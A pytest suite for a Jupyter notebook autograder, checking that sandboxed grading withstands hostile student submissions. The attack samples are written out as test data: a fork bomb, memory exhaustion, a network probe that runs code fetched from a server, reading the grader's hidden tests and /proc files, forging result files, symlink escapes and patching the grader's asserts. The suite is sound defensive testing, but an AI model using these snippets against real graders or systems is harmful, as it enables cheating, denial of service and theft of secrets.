"""Hostile submissions: each one earns no point it did not deserve, fails with a reason a student
can read, and leaves the rest of the class (graded alongside it, two at a time) untouched.

Every hostile notebook is the honest partial submission (correct ``mean_abs``, naive
``softmax``: 3 of 5 points) with an attack added, so "no undeserved points" means "exactly
what the honest partial submission earns" (or what the honest version of a broken function
earns). One class per backend holds them all next to honest students and is graded once with
``grade_class(workers=2)``. Attacks that would do real harm outside a sandbox (memory, fork
bomb, network, reading or writing the grader's files) run only on ``sandbox`` and ``docker``;
``local`` gets the harmless ones.

The attacks: endless loops (in a cell, swallowing the timeout, in a called function, with the
timer switched off), unbounded memory (in a cell and in a call), a fork bomb, network access,
reading the hidden tests and reference, writing results / the gradebook / the bundle, patching
the checker (numpy's asserts, builtins, ``__import__``), objects that claim equality,
``os._exit`` (first cell, inside a call), 50 MB of output, echoing hidden-test inputs back,
symbolic links to the grader's files left for a restart, forged protocol frames, breaking the
runner, and unreadable notebooks.

The toy is released here with a 15 s cell timeout (the attacks that hang would otherwise take
30 s each); its memory (1024 MB) and process (64) limits are the toy's own.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pytest

from autograder.isolation import wire
from autograder.grading.bundle import Bundle
from autograder.grading.engine import grade_notebook
from autograder.grading.class_grading import grade_class
from autograder.gradebook import Gradebook
from toy_notebooks import REPO, TOY_ID
from toy_submissions import (MEAN_ABS_OK, MUTANT_SCORES, MUTANTS, PARTIAL_SCORE, SECRET_WORDS, SOFTMAX_NAIVE,
                             SOFTMAX_OK, backend_or_fail, mutant, outcomes, partial, release_toy, solution,
                             submission, template)

SAFE = ("sandbox", "docker")
ALL = ("local", "sandbox", "docker")
# docker's class takes 35-50 s (a container start per run): slow, which CI still runs
MARKS = {"local": [], "sandbox": [pytest.mark.sandbox], "docker": [pytest.mark.docker, pytest.mark.slow]}
CELL_TIMEOUT = 15      # the toy's is 30 s. Filling 1 GB takes 1.5 s alone; beside 30 busy processes it ran past 15 s
                       # of wall clock and ended as a timeout, until cells were timed on their own time (OwnClock)
BOMB_NAME = "bomb" + uuid.uuid4().hex[:8]      # the fork bomb's processes carry this name (comm)


@dataclass
class Host:
    """What the attacks aim at, on the grading machine."""
    dist: Path
    results: Path
    db: Path
    port: int
    host_ips: list[str]
    victims: list[Path] = field(default_factory=list)     # files of the test machine, mode 0600
    grader_pid: int = field(default_factory=os.getpid)


@dataclass
class Case:
    name: str
    build: Callable[[Host], bytes]
    score: float                        # what the honest equivalent earns
    reasons: tuple[str, ...]            # acceptable exit reasons
    backends: tuple[str, ...] = ALL
    words: tuple[str, ...] = ()         # words the exit detail must contain (readable reason)


# --------------------------------------------------------------------------- the attacks

LOOP = "while True:\n    pass\n"
LOOP_SWALLOWING = """\
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
MEMORY = """\
_hog = []
while True:
    _hog.append(b'x' * (64 << 20))   # touched pages, not just reserved ones
"""
SOFTMAX_HOG = """\
def softmax(x):
    hog = []
    while True:
        hog.append(b'x' * (64 << 20))
"""
MEAN_ABS_LOOPS = MEAN_ABS_OK.replace("def mean_abs(xs):\n", "def mean_abs(xs):\n    while len(xs) != 2:\n        pass\n")
MEAN_ABS_EXITS = MEAN_ABS_OK.replace("    if magnitudes.size == 0:\n",
                                     "    if magnitudes.size == 0:\n        import os\n        os._exit(3)\n")

FORK_BOMB = f"""\
import ctypes, os
# only inside the sandbox or a container (cwd /student, not root), never on the test machine itself
if os.getcwd() == '/student' and os.getuid() != 0:
    ctypes.CDLL(None).prctl(15, b'{BOMB_NAME}', 0, 0, 0)   # PR_SET_NAME, inherited by every child
    forks = 0
    try:
        while True:
            os.fork()
            forks += 1
    except OSError as e:
        print('fork refused after', forks, 'forks:', type(e).__name__)
"""


def network(h: Host) -> bytes:
    hosts = ["127.0.0.1", *h.host_ips]
    cell = f"""\
import socket
_code = None
for host in {hosts!r}:
    try:
        with socket.create_connection((host, {h.port}), timeout=3) as s:
            _code = s.recv(65536).decode()
        print('CONNECTED', host)
        break
    except OSError as e:
        print('blocked', host, type(e).__name__)
for host in ['1.1.1.1', '8.8.8.8']:
    try:
        socket.create_connection((host, 53), timeout=3).close()
        print('CONNECTED', host)
    except OSError as e:
        print('blocked', host, type(e).__name__)
try:
    socket.getaddrinfo('deb.debian.org', 80)
    print('RESOLVED')
except OSError as e:
    print('no dns', type(e).__name__)
if _code:
    exec(_code)    # a working softmax from the outside: 5 points if the network were open
"""
    return partial(h.dist, after=[cell])


def secret_paths(h: Host) -> list[str]:
    paths = [str(p) for root in (h.dist, REPO / "assignments", REPO / "dist") if root.exists()
             for p in [root, *sorted(root.rglob("*"))]]
    paths += [str(h.db), str(h.results)]
    # through the grader's own process, if its /proc were visible
    paths += [f"/proc/{h.grader_pid}/root{p}" for p in paths[:20]]
    paths += [f"/proc/{h.grader_pid}/cwd", f"/proc/{h.grader_pid}/environ", f"/proc/{h.grader_pid}/cmdline"]
    return paths


def read_secrets(h: Host) -> bytes:
    cell = f"""\
import os
_stolen, _readable, _paths = [], 0, {secret_paths(h)!r}
for p in _paths:
    try:
        if os.path.isdir(p):
            _stolen.append(p + ': ' + ' '.join(os.listdir(p)))
        else:
            with open(p, 'rb') as f:
                _stolen.append(p + ': ' + f.read(2000).decode('utf-8', 'replace'))
        _readable += 1
    except OSError:
        pass
# and anything that looks like a release, wherever it is
_seen = 0
for top in ['/tmp', '/work', '/root', '/home', '/srv', '/opt', '/mnt', '/var']:
    for root, dirs, files in os.walk(top):
        _seen += len(files)
        if _seen > 50000:
            break
        dirs[:] = [d for d in dirs if d not in ('site-packages', 'proc')]
        for name in files:
            if name in ('tests.json', 'reference.json', 'solution.ipynb', 'questions.json') or \\
                    (name.endswith('.ipynb') and root != '/student'):
                try:
                    with open(os.path.join(root, name), 'rb') as f:
                        _stolen.append(os.path.join(root, name) + ': ' + f.read(2000).decode('utf-8', 'replace'))
                    _readable += 1
                except OSError:
                    pass
print('readable:', _readable, 'of', len(_paths))
for s in _stolen:
    print(s)

def stolen():
    return '\\n'.join(_stolen)
"""
    # and the stolen text in a returned value: softmax's result, shown by its public test if it fails
    smuggle = SOFTMAX_NAIVE.replace("    return weights / weights.sum()",
                                    "    if _stolen:\n        raise ValueError(stolen())\n    return weights / weights.sum()")
    return submission(h.dist, MEAN_ABS_OK, smuggle, after=[cell])


def write_results(h: Host) -> bytes:
    fake = json.dumps({"assignment": TOY_ID, "student": "h_write_results", "score": 5.0, "max_score": 5.0})
    targets = {h.results / "h_write_results.json": fake, h.results / "honest_solution.json": "{}",
               h.results / "intruder.json": fake, h.db: "not a database",
               h.dist / "autograder" / "tests.json": json.dumps({"assignment": TOY_ID, "tests": []}),
               h.dist / "autograder" / "reference.json": "{}"}
    cell = f"""\
import os
for path, text in {[(str(k), v) for k, v in targets.items()]!r}:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'w') as f:
            f.write(text)
        print('wrote', path)
    except OSError as e:
        print('denied', path, type(e).__name__)
"""
    return partial(h.dist, after=[cell])


def symlink_escape(h: Host) -> bytes:
    """Links in the work dir to files of the test machine, then a crash: the grader restarts the
    notebook in the same work dir, and must not chown/chmod through the links."""
    cell = f"""\
import os
os.symlink({str(h.victims[0])!r}, 'innocent.txt')
os.remove('submission.ipynb')
os.symlink({str(h.victims[1])!r}, 'submission.ipynb')
os._exit(0)
"""
    return partial(h.dist, after=[cell])


PATCH_CHECKER = """\
import builtins, numpy
numpy.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_allclose = lambda *a, **k: None
np.allclose = lambda *a, **k: True
def assert_close(*a, **k):
    return None
assert_equal = assert_close
class AssertionError(Exception):
    pass
builtins.AssertionError = type('NotAnAssertion', (Exception,), {})
_real_import = builtins.__import__
def __import__(name, *args, **kwargs):
    return _real_import(name, *args, **kwargs)
builtins.__import__ = __import__
"""
# the student breaks the runner itself (its framing uses len): a crash, that cell skipped
BREAK_RUNNER = "import builtins\nbuiltins.len = lambda x: 3\n"
ALWAYS_EQUAL = """\
class AlwaysEqual:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __bool__(self):
        return True
    def __float__(self):
        return 2.0
    def __array__(self, *a, **k):
        return np.array([0.5, 0.5])
    __hash__ = object.__hash__

class EqualFloat(float):
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
"""

FORGED_BAD_EVENT = """\
import os, stat, struct
def _send(payload):
    for fd in range(3, 30):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, struct.pack('>Q', len(payload)) + payload)
        except OSError:
            pass
_send(b'{"event": "cell_end", "outcome": {"index": "zzz", "status": "ok", "stdout": "forged"}}')
"""
FORGED_DEEP_JSON = FORGED_BAD_EVENT.split("_send(b'")[0] + \
    "_send(b'{\"event\": \"cell_start\", \"index\": ' + b'[' * 200000 + b']' * 200000 + b'}')\n"
FORGED_HUGE_OUTPUT = FORGED_BAD_EVENT.split("_send(b'")[0] + \
    "_send(b'{\"event\": \"cell_end\", \"outcome\": {\"index\": 99, \"status\": \"ok\", \"stdout\": \"' + b'A' * 3_000_000 + b'\"}}')\n"

PRINT_FLOOD = [
    "print('x' * 50_000_000)",
    "for _ in range(100_000):\n    print('w' * 500)",
    "import os, sys\nfor _ in range(50):\n    os.write(1, b'y' * 1_000_000)\n    os.write(2, b'z' * 1_000_000)\n"
    "sys.__stdout__.write('v' * 1_000_000)",
]
MEAN_ABS_PRINTS = MEAN_ABS_OK.replace("def mean_abs(xs):\n", "def mean_abs(xs):\n    print('p' * 10_000_000)\n")

# hidden test inputs must never come back: recorded by the student's functions (in memory and in
# a file), then shown in a public test's error, in a cell's output after a restart, ...
ECHO_FIRST = """\
import os
if os.path.exists('seen.txt'):
    print('SEEN BEFORE:', open('seen.txt').read())
_SEEN = []
"""
ECHO_MEAN_ABS = """\
def mean_abs(xs):
    _SEEN.append(repr(xs))
    with open('seen.txt', 'w') as f:
        f.write(' | '.join(_SEEN))
    if len(xs) == 0:
        import os
        os._exit(0)          # a restart, to print seen.txt again
    magnitudes = np.abs(np.asarray(xs, dtype=float))
    return float(magnitudes.sum() / magnitudes.size)
"""
ECHO_SOFTMAX = """\
def softmax(x):
    _SEEN.append(repr(x))
    raise ValueError('seen so far: ' + ' | '.join(_SEEN))
"""
HIDDEN_INPUT_TEXTS = ("-3.0, 1.0, 2.0", "-3., 1., 2.", "1000., 1000.", "1000.0, 1000.0")

CASES = [
    Case("loop", lambda h: partial(h.dist, after=[LOOP]), PARTIAL_SCORE, ("timeout",), words=("time",)),
    Case("loop_swallowing_timeout", lambda h: partial(h.dist, after=[LOOP_SWALLOWING]), PARTIAL_SCORE,
         ("timeout",), words=("time",)),
    # honest equivalent: a mean_abs that fails the hidden q1 test (it loops on other inputs than the public one's)
    Case("loop_in_call", lambda h: partial(h.dist, mean_abs=MEAN_ABS_LOOPS), 2.0, ("timeout",), words=("longer",)),
    Case("memory", lambda h: partial(h.dist, after=[MEMORY]), PARTIAL_SCORE, ("out-of-memory",), SAFE,
         words=("memory",)),
    # honest equivalent: a softmax that fails both q2 tests
    Case("memory_in_call", lambda h: partial(h.dist, softmax=SOFTMAX_HOG), 2.0, ("out-of-memory",), SAFE,
         words=("memory",)),
    Case("fork_bomb", lambda h: partial(h.dist, after=[FORK_BOMB]), PARTIAL_SCORE, ("ok", "crash"), SAFE),
    Case("network", network, PARTIAL_SCORE, ("ok",), SAFE),
    Case("read_secrets", read_secrets, PARTIAL_SCORE, ("ok",), SAFE),
    Case("write_results", write_results, PARTIAL_SCORE, ("ok",), SAFE),
    Case("symlink_escape", symlink_escape, PARTIAL_SCORE, ("crash",)),
    Case("patch_checker", lambda h: partial(h.dist, after=[PATCH_CHECKER]), PARTIAL_SCORE, ("ok",)),
    Case("break_runner", lambda h: partial(h.dist, after=[BREAK_RUNNER]), PARTIAL_SCORE, ("crash",),
         words=("protocol",)),
    # honest equivalent: the untouched template
    Case("always_equal", lambda h: submission(h.dist, "def mean_abs(xs):\n    return EqualFloat(42.0)\n",
                                              "def softmax(x):\n    return AlwaysEqual()\n",
                                              before=[ALWAYS_EQUAL]), 0.0, ("ok",)),
    Case("exit_first_cell", lambda h: partial(h.dist, before=["import os\nos._exit(0)"]), PARTIAL_SCORE,
         ("crash",), words=("cell 1", "exit")),
    # honest equivalent: mean_abs failing on [] (the hidden q1 test)
    Case("exit_in_call", lambda h: partial(h.dist, mean_abs=MEAN_ABS_EXITS), 2.0, ("crash",), words=("exit",)),
    Case("print_flood", lambda h: partial(h.dist, mean_abs=MEAN_ABS_PRINTS, after=PRINT_FLOOD), PARTIAL_SCORE,
         ("ok",)),
    # mean_abs right but crashing on [] (q1 public only), softmax raising: 1 point
    Case("hidden_inputs_echo", lambda h: submission(h.dist, ECHO_MEAN_ABS, ECHO_SOFTMAX, before=[ECHO_FIRST]),
         1.0, ("crash",)),
    Case("forged_bad_event", lambda h: partial(h.dist, after=[FORGED_BAD_EVENT]), PARTIAL_SCORE, ("crash",),
         words=("protocol",)),
    Case("forged_deep_json", lambda h: partial(h.dist, after=[FORGED_DEEP_JSON]), PARTIAL_SCORE, ("crash",),
         words=("protocol",)),
    Case("forged_huge_output", lambda h: partial(h.dist, after=[FORGED_HUGE_OUTPUT]), PARTIAL_SCORE, ("ok", "crash")),
    Case("corrupt_not_json", lambda h: b"this is not a notebook {", 0.0, ("invalid",), words=("not",)),
    Case("corrupt_no_cells", lambda h: b'{"metadata": {}, "nbformat": 4, "nbformat_minor": 5}', 0.0, ("invalid",),
         words=("not",)),
]
CASES_BY_NAME = {c.name: c for c in CASES}
HONEST = {"honest_solution": 5.0, "honest_template": 0.0, "honest_partial": PARTIAL_SCORE,
          **{f"honest_{m}": s for m, s in MUTANT_SCORES.items()}}


def _honest_notebooks(dist: Path) -> dict[str, bytes]:
    nbs = {"honest_solution": solution(dist), "honest_template": template(dist), "honest_partial": partial(dist)}
    nbs.update({f"honest_{m}": mutant(dist, m) for m in MUTANTS})
    return nbs


# --------------------------------------------------------------------------- fixtures


class _Server(threading.Thread):
    """A TCP server on every interface of the test machine; counts who got through."""

    def __init__(self):
        super().__init__(daemon=True)
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False

    def run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            with conn:
                conn.sendall(SOFTMAX_OK.encode())


def _host_ips() -> list[str]:
    ips = set()
    try:
        out = subprocess.run(["hostname", "-I"], capture_output=True, text=True, timeout=5).stdout
        ips.update(out.split())
    except (OSError, subprocess.SubprocessError):
        pass
    ips.add("172.17.0.1")     # docker's bridge, where a container would find the host
    return sorted(ip for ip in ips if ":" not in ip)[:6]


@pytest.fixture(scope="module")
def server():
    s = _Server()
    s.start()
    yield s
    s.stop = True


@pytest.fixture(scope="module")
def dist(tmp_path_factory):
    return release_toy(tmp_path_factory.mktemp("dist"), cell_timeout_s=CELL_TIMEOUT, time_s=60)


def _digests(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@dataclass
class ClassRun:
    host: Host
    results: dict[str, dict]            # student -> result (from results/<id>/<student>.json)
    rows: dict[str, object]             # student -> gradebook row
    summary: object
    bundle_before: dict[str, str]
    bundle_after: dict[str, str]
    seconds: float


def _names(backend: str) -> list[str]:
    return [c.name for c in CASES if backend in c.backends]


@pytest.fixture(scope="module")
def class_runs(dist, server, tmp_path_factory):
    """backend -> ClassRun: honest and hostile submissions in one folder, graded with 2 workers."""
    runs: dict[str, ClassRun] = {}

    def get(backend_name: str) -> ClassRun:
        if backend_name in runs:
            return runs[backend_name]
        backend = backend_or_fail(backend_name)
        root = tmp_path_factory.mktemp(f"class-{backend_name}")
        subs, results = root / "submissions", root / "results" / TOY_ID
        subs.mkdir()
        host = Host(dist, results, root / "gradebook.db", server.port, _host_ips(),
                    [root / "victim-1.txt", root / "victim-2.txt"])
        for victim in host.victims:
            victim.write_text("the grader's own file")
            victim.chmod(0o600)
        for student, data in _honest_notebooks(dist).items():
            (subs / f"{student}.ipynb").write_bytes(data)
        for name in _names(backend_name):
            (subs / f"h_{name}.ipynb").write_bytes(CASES_BY_NAME[name].build(host))
        before = _digests(dist / "autograder")
        gradebook = Gradebook(f"sqlite:///{host.db}")
        start = time.monotonic()
        summary = grade_class(dist / "autograder", subs, backend, gradebook, results, workers=2, progress=False)
        seconds = time.monotonic() - start
        rows = {g.student: g for g in Gradebook(f"sqlite:///{host.db}").grades(TOY_ID)}
        graded = {p.stem: json.loads(p.read_text()) for p in results.glob("*.json")}
        runs[backend_name] = ClassRun(host, graded, rows, summary, before, _digests(dist / "autograder"), seconds)
        return runs[backend_name]
    return get


def _pairs():
    return [pytest.param(b, c, id=f"{b}-{c}", marks=MARKS[b]) for c in CASES_BY_NAME for b in ALL
            if b in CASES_BY_NAME[c].backends]


BACKEND_PARAMS = [pytest.param(b, id=b, marks=MARKS[b]) for b in ALL]


# --------------------------------------------------------------------------- per attack


@pytest.mark.parametrize("backend,case", _pairs())
def test_hostile_submission(class_runs, backend, case):
    run = class_runs(backend)
    spec = CASES_BY_NAME[case]
    student = f"h_{case}"
    assert student in run.results, f"{student} was not graded: {run.summary.failed}"
    r = run.results[student]
    assert r["score"] <= spec.score, f"undeserved points: {r['score']} > {spec.score} ({outcomes(r)})"
    assert r["score"] == spec.score, (outcomes(r), r["exit_reason"], r["exit_detail"])
    assert r["exit_reason"] in spec.reasons, (r["exit_reason"], r["exit_detail"])
    if r["exit_reason"] != "ok":
        assert r["exit_detail"], "a failure needs a reason the student can read"
    for word in spec.words:
        assert word in r["exit_detail"], (word, r["exit_detail"])
    # nothing of the hidden tests, the solution or the reference in what the student sees
    text = json.dumps(r)
    for secret in SECRET_WORDS:
        assert secret not in text, f"{secret!r} leaked into {student}'s result"
    assert len(text) < 300_000, f"{student}'s result is {len(text)} bytes"
    # the gradebook row is the results file
    row = run.rows[student]
    assert json.loads(row.result_json) == r and row.score == r["score"] and row.exit_reason == r["exit_reason"]


def _cell_output(result: dict) -> str:
    return "\n".join((c.get("stdout") or "") + (c.get("error") or "") for c in result["cells"])


@pytest.mark.parametrize("backend", BACKEND_PARAMS)
def test_honest_students_unaffected(class_runs, backend):
    run = class_runs(backend)
    assert not run.summary.failed
    assert {s: run.results[s]["score"] for s in HONEST} == HONEST
    for s in HONEST:
        r = run.results[s]
        assert r["exit_reason"] == "ok" and r["restarts"] == 0, (s, r["exit_detail"])
    # every submission graded exactly once, results files = gradebook, nothing else written
    expected = set(HONEST) | {f"h_{n}" for n in _names(backend)}
    assert set(run.results) == expected
    assert set(run.rows) == expected
    for s, row in run.rows.items():
        assert json.loads(row.result_json) == run.results[s]
    assert run.bundle_after == run.bundle_before, "the autograder bundle was modified"
    # the grader never changed a file of this machine through a link the student made
    for victim in run.host.victims:
        st = victim.stat()
        assert (st.st_mode & 0o777, st.st_uid, st.st_gid) == (0o600, os.getuid(), os.getgid()), victim
        assert victim.read_text() == "the grader's own file"


@pytest.mark.parametrize("backend", [p for p in BACKEND_PARAMS if p.id != "local"])
def test_no_way_out(class_runs, backend, server):
    """The attacks that need isolation found none."""
    run = class_runs(backend)
    r = run.results
    # network: no connection reached the test machine; every attempt failed inside
    assert server.connections == 0
    out = _cell_output(r["h_network"])
    assert "CONNECTED" not in out and "RESOLVED" not in out and "blocked 127.0.0.1" in out
    # secrets: nothing readable, not even through /proc
    out = _cell_output(r["h_read_secrets"])
    assert "readable: 0 of" in out, out[:2000]
    # writes: the grader's files are what the grader wrote
    assert not (run.host.results / "intruder.json").exists()
    assert r["honest_solution"]["score"] == 5.0
    assert r["h_write_results"]["score"] == PARTIAL_SCORE
    # memory: the cell that ran out was skipped and the rest graded
    oom = r["h_memory"]
    assert oom["restarts"] == 1
    assert oom["peak_memory_mb"] >= 0.9 * 1024, oom["peak_memory_mb"]     # the killed run's peak, not the rerun's
    assert [c["status"] for c in oom["cells"] if c["status"] != "ok"] == ["out-of-memory"]
    # fork bomb: refused by the process limit, and nothing of it survives the grading
    assert "fork refused after" in _cell_output(r["h_fork_bomb"])
    assert _bomb_processes() == []


def _bomb_processes() -> list[str]:
    deadline = time.monotonic() + 10
    while True:
        out = subprocess.run(["ps", "-eo", "pid,comm"], capture_output=True, text=True).stdout
        left = [line for line in out.splitlines() if BOMB_NAME in line]
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.5)


@pytest.mark.parametrize("backend", BACKEND_PARAMS)
def test_checker_cannot_be_patched(class_runs, backend):
    r = class_runs(backend).results
    # the honest partial submission's hidden softmax test fails on the grader's own numpy
    assert outcomes(r["h_patch_checker"]) == outcomes(r["honest_partial"])
    # objects that claim equality cross as references (compared by identity), floats as plain floats
    assert outcomes(r["h_always_equal"]) == {"q1 - 1": ("failed", 0.0), "q1 - 2": ("failed", 0.0),
                                             "q2 - 1": ("error", 0.0), "q2 - 2": ("error", 0.0)}


@pytest.mark.parametrize("backend", BACKEND_PARAMS)
def test_hidden_inputs_never_come_back(class_runs, backend):
    r = class_runs(backend).results["h_hidden_inputs_echo"]
    text = json.dumps(r)
    for secret in HIDDEN_INPUT_TEXTS:
        assert secret not in text, f"a hidden test's input {secret!r} came back in the result"
    # the public inputs do (the student's own error message on a public test)
    assert "seen so far" in text


@pytest.mark.parametrize("backend", BACKEND_PARAMS)
def test_failures_are_explained(class_runs, backend):
    r = class_runs(backend).results
    loop = r["h_loop"]
    assert [c["status"] for c in loop["cells"]].count("timeout") == 1
    assert f"longer than {CELL_TIMEOUT} s" in _cell_output(loop)
    flood = r["h_print_flood"]
    assert any(c["truncated"] for c in flood["cells"])
    assert "characters of output dropped" in _cell_output(flood)
    call = r["h_loop_in_call"]["questions"]["q1"]["tests"]
    assert [t["status"] for t in call] == ["passed", "timeout"]
    assert f"took longer than {CELL_TIMEOUT} s" in r["h_loop_in_call"]["exit_detail"]
    assert call[1]["message"] == "mean_abs is wrong when signs are mixed (zebra-7)"   # hidden: its own message
    exited = r["h_exit_in_call"]["questions"]["q1"]["tests"][1]
    assert exited["status"] == "crash" and "exit status 3" in exited["message"]
    for name in ("corrupt_not_json", "corrupt_no_cells"):
        assert "not a readable notebook" in r[f"h_{name}"]["exit_detail"]


# --------------------------------------------------------------------------- one notebook at a time


@pytest.mark.parametrize("backend", BACKEND_PARAMS)
def test_corrupt_notebooks_reach_the_runner(dist, backend):
    """Past the submission reader (e.g. `course validate`), the runner reports them itself."""
    be = backend_or_fail(backend)
    bundle = Bundle.load(dist / "autograder")
    cells_not_list = json.dumps({"cells": {"a": 1}, "metadata": {}}).encode()
    source_not_text = json.dumps({"cells": [{"cell_type": "code", "source": 42}]}).encode()
    for data, words in [(b"\x00\xffnot json", "invalid JSON"), (cells_not_list, "no list of cells"),
                        (source_not_text, "no readable source")]:
        r = grade_notebook(bundle, data, be)
        assert (r["score"], r["exit_reason"]) == (0.0, "invalid")
        assert words in r["exit_detail"]
        assert {t["status"] for q in r["questions"].values() for t in q["tests"]} == {"invalid"}


@pytest.mark.parametrize("backend", BACKEND_PARAMS)
def test_total_time_budget(tmp_path, backend):
    """Many cells, each under the cell limit, still stop at the submission's time budget."""
    be = backend_or_fail(backend)
    short = release_toy(tmp_path / "dist", cell_timeout_s=2, time_s=5)
    bundle = Bundle.load(short / "autograder")
    start = time.monotonic()
    r = grade_notebook(bundle, partial(short, after=["import time\ntime.sleep(1.5)"] * 8), be)
    assert time.monotonic() - start < 12
    assert (r["score"], r["exit_reason"]) == (0.0, "timeout")
    assert "time" in r["exit_detail"]


@pytest.mark.slow
@pytest.mark.parametrize("backend", [p for p in BACKEND_PARAMS if p.id != "local"])
def test_cell_that_ignores_the_timer(tmp_path, backend):
    """A cell that turns the timer off is killed from outside (cell limit + 15 s grace) and skipped."""
    be = backend_or_fail(backend)
    dist = release_toy(tmp_path / "dist", cell_timeout_s=2, time_s=60)
    bundle = Bundle.load(dist / "autograder")
    nb = partial(dist, after=["import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n" + LOOP])
    r = grade_notebook(bundle, nb, be)
    assert (r["score"], r["exit_reason"], r["restarts"]) == (PARTIAL_SCORE, "timeout", 1)
    assert [c["status"] for c in r["cells"]][-1] == "timeout"


def test_wire_refuses_objects_as_data():
    ns: dict = {"np": __import__("numpy")}
    exec(ALWAYS_EQUAL, ns)
    with pytest.raises(TypeError, match="cannot send"):
        wire.encode(ns["AlwaysEqual"]())
    refs = []
    encoded = wire.encode([ns["AlwaysEqual"](), ns["EqualFloat"](42.0)], lambda obj: refs.append(obj) or {"__ref__": 1})
    decoded = wire.decode(json.loads(json.dumps(encoded)), lambda i, meta: ("ref", i))
    assert decoded == [("ref", 1), 42.0]
    assert type(decoded[1]) is float and decoded[1] != 1.0


def test_saved_files_are_read_safely(tmp_path):
    """``student_path`` (tests reading files the notebook saved) refuses links and FIFOs."""
    from autograder.grading.engine import SafeWorkdir

    work = tmp_path / "work"
    (work / "model").mkdir(parents=True)
    (work / "model" / "weights.bin").write_bytes(b"ok")
    (work / "ok.txt").write_text("ok")
    (work / "passwd").symlink_to("/etc/passwd")
    os.mkfifo(work / "pipe")
    (work / "model2").mkdir()
    os.mkfifo(work / "model2" / "weights.bin")
    safe = SafeWorkdir(work)
    assert safe.path("ok.txt").read_text() == "ok" and safe.path("model").is_dir()
    for rel, words in [("passwd", "symbolic link"), ("pipe", "not a regular file"),
                       ("model2", "not a regular file"), ("/etc/passwd", "relative"), ("../x", "relative"),
                       ("missing.txt", "did not save")]:
        with pytest.raises(AssertionError, match=words):
            safe.path(rel)


def test_a_reaped_runner_is_never_waited_on_or_signalled_again(tmp_path, monkeypatch):
    """Once the runner's exit status is in hand (``Popen.poll`` reaped it), its pid is the
    kernel's to give away, to a sibling runner of the grader's other threads among others: closing
    the handle must neither wait on that pid (stealing the sibling's exit) nor kill its group."""
    from autograder.isolation import student_process

    proc = student_process.StudentProcess([sys.executable, "-c", "pass"], cwd=str(tmp_path))
    deadline = time.monotonic() + 30
    while proc.proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.01)
    assert proc.proc.returncode == 0
    touched = []
    monkeypatch.setattr(student_process.os, "wait4", lambda pid, options: touched.append(("wait4", pid)) or (0, 0, None))
    monkeypatch.setattr(student_process.os, "killpg", lambda pid, sig: touched.append(("killpg", pid)))
    proc._wait_exit(0.2)
    proc.close()
    assert touched == []


def test_a_process_that_stops_reading_cannot_hang_the_grader(tmp_path):
    """A big request to a student process that no longer reads its channel (a thread holding the
    GIL, a stuck C call) must time out, not block the grading thread on a full pipe forever."""
    import numpy as np

    from autograder.isolation.student_process import ProcessEnded, RemoteRef, StudentProcess

    ready = json.dumps({"event": "ready", "seconds": 0.0}).encode()
    fake_runner = ("import struct, sys, time\n"
                   f"sys.stdout.buffer.write(struct.pack('>Q', {len(ready)}) + {ready!r})\n"
                   "sys.stdout.buffer.flush()\n"
                   "time.sleep(120)\n")
    proc = StudentProcess([sys.executable, "-c", fake_runner], cwd=str(tmp_path), call_timeout=1,
                          deadline=time.monotonic() + 60)
    proc.wait_ready(cell_timeout=5)
    outcome = {}

    def call():
        try:
            proc.call(RemoteRef(proc, {"__ref__": 1}), np.zeros(1_000_000))      # an 8 MB request
        except ProcessEnded as e:
            outcome["reason"] = e.reason

    start = time.monotonic()
    worker = threading.Thread(target=call, daemon=True)
    worker.start()
    worker.join(30)
    hung = worker.is_alive()
    proc.kill()
    assert not hung, "the grader blocked writing to a process that does not read"
    assert outcome == {"reason": "timeout"} and time.monotonic() - start < 20
